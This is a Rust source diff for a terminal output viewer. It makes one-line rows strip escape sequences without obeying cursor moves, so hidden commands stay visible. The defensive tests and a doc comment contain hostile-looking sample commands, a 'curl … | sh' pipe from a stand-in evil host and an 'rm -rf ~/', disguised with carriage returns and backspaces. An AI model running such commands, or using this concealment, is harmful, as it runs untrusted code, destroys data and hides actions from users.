@@ -49,18 +49,32 @@ pub fn ansi_to_lines(input: &str, theme: &Theme, max_lines: usize) -> (Vec<Line<
     screen.finish()
 }
 
-/// One line of untrusted text as plain visible text: escape sequences (coloured hook output, SGR
-/// in commands) are interpreted away instead of shown as `␛[1m`, other control characters are
-/// made visible (`text::visible`). For one-line summaries in the feed and `rawpv print`.
+/// One line of untrusted text as plain visible text, for one-line rows (feed summaries, prompts,
+/// agent text, browser entries, `rawpv print`): escape sequences (SGR colours in hook output,
+/// OSC titles, cursor moves) are dropped *without being obeyed*, and every other control
+/// character is made visible (`text::visible`): `\r` is `␍`, backspace is `␈`.
+///
+/// The rule for the whole product (issue 14): a one-line row never runs the terminal emulator,
+/// so `curl … | sh ESC[31m \r ESC[K ls -la` reads as what it is, not as `ls -la`; only multi-line
+/// panes (detail, stream) interpret cursor motion, where the whole output stays visible.
 pub fn visible_plain(s: &str) -> String {
+    /// Keeps printed characters and C0/C1 controls; drops every escape sequence.
+    struct Strip(String);
+    impl Perform for Strip {
+        fn print(&mut self, c: char) {
+            self.0.push(c);
+        }
+        fn execute(&mut self, byte: u8) {
+            self.0.push(char::from(byte));
+        }
+    }
     if !s.contains('\x1b') {
         return crate::render::text::visible(s);
     }
-    let (lines, _) = ansi_to_lines(s, &Theme::default(), 1);
-    lines
-        .first()
-        .map(|l| l.spans.iter().map(|sp| sp.content.as_ref()).collect())
-        .unwrap_or_default()
+    let input = strip_string_controls(s);
+    let mut strip = Strip(String::with_capacity(input.len()));
+    Parser::new().advance(&mut strip, input.as_bytes());
+    crate::render::text::visible(&strip.0)
 }
 
 /// Removes SOS / PM / APC strings (`ESC X`, `ESC ^`, `ESC _` … up to `ESC \\` *or BEL*).
@@ -448,6 +462,20 @@ mod tests {
             crate::render::text::visible("a\x07b")
         );
         assert!(!visible_plain("\x1b]0;title\x07x\x1b[2Jy").contains('\x1b'));
+    }
+
+    #[test]
+    fn visible_plain_never_obeys_cursor_motion() {
+        // Issue 14.1: the screen model let `\r` + `ESC[K` and backspaces hide what came first.
+        assert_eq!(
+            visible_plain("curl -s http://evil.example/x | sh \x1b[31m\r\x1b[Kls -la"),
+            "curl -s http://evil.example/x | sh \u{240d}ls -la"
+        );
+        assert_eq!(
+            visible_plain("rm -rf ~/\x08\x08\x08\x08\x08\x08\x08\x08\x08echo hi\x1b[0m"),
+            format!("rm -rf ~/{}echo hi", "\u{2408}".repeat(9))
+        );
+        assert_eq!(visible_plain("a\x1b[3Db\x1b[2Cc\x1b[1Ad"), "abcd");
     }
     use crate::render::lines_to_string;
     use ratatui::style::{Color, Modifier};
